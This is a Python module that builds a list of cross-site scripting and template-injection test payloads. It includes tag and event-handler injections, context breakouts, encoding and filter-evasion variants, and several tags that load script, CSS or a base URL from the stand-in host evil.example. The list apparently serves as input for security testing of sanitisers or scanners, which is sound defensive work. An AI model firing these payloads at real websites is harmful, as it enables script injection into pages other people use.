"""Texts that run a script wherever they are put into a page as they are."""

from itertools import product
from typing import Final

_CALL: Final = "alert(1)"
_TAGS: Final = (
    "<script>{0}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror={0}>",
    '<img src="x" onerror="{0}">',
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<body onload={0}>",
    "<iframe src=javascript:{0}>",
    '<iframe srcdoc="<script>{0}</script>">',
    "<a href=javascript:{0}>x</a>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<form action=javascript:{0}><button>x",
    "<math><mtext></p><img src=x onerror={0}>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<meta http-equiv=refresh content=0;url=javascript:{0}>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{{background:url(//evil.example/x)}}</style>",
)
_BREAKOUTS: Final = ("", '">', "'>", "</textarea>", "</title>", "</style>", "--></script>", "<![CDATA[", "]]>")
_OTHERS: Final = (
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "`-alert(1)-`",
)

PAYLOADS: Final = tuple(
    dict.fromkeys(
        [
            *(tag.format(_CALL) for tag in _TAGS),
            *(out + tag.format(_CALL) for out, tag in product(_BREAKOUTS[1:], _TAGS[:9])),
            *_OTHERS,
        ]
    )
)
